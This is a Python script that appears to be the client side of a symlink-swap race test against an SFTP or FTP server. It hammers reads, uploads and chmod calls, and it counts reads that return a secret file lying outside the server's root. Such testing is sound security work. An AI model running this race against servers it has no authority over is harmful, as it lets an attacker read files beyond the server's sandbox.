# Client side of the symlink-swap race: for N seconds, read d/f, upload d/w<i> and chmod d/f through the
# server, over SFTP (paramiko) or FTP (ftplib). Counts reads that returned the outside file's content.
# Usage: race_client.py sftp|ftp HOST PORT USER PASSWORD SECONDS SECRET
import io, json, sys, time

proto, host, port, user, password, seconds, secret = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5], float(sys.argv[6]), sys.argv[7].encode()
stats = {'reads': 0, 'escapes': 0, 'writes': 0, 'chmods': 0, 'errors': 0}
end = time.time() + seconds

def step(fn, key):
    try:
        fn()
        stats[key] += 1
    except Exception:
        stats['errors'] += 1

if proto == 'sftp':
    import paramiko
    t = paramiko.Transport((host, port))
    t.connect(username=user, password=password)
    s = paramiko.SFTPClient.from_transport(t)
    def read():
        with s.open('d/f', 'rb') as f:
            if f.read() == secret: stats['escapes'] += 1
    i = 0
    while time.time() < end:
        step(read, 'reads')
        step(lambda: s.putfo(io.BytesIO(b'written'), 'd/w%d' % (i % 4), confirm=False), 'writes')
        step(lambda: s.chmod('d/f', 0o600), 'chmods')
        i += 1
    s.close(); t.close()
else:
    import ftplib
    c = ftplib.FTP()
    c.connect(host, port, timeout=10)
    c.login(user, password)
    def read():
        buf = io.BytesIO()
        c.retrbinary('RETR d/f', buf.write)
        if buf.getvalue() == secret: stats['escapes'] += 1
    i = 0
    while time.time() < end:
        step(read, 'reads')
        step(lambda: c.storbinary('STOR d/w%d' % (i % 4), io.BytesIO(b'written')), 'writes')
        step(lambda: c.sendcmd('SITE CHMOD 600 d/f'), 'chmods')
        i += 1
    c.quit()
print(json.dumps(stats))
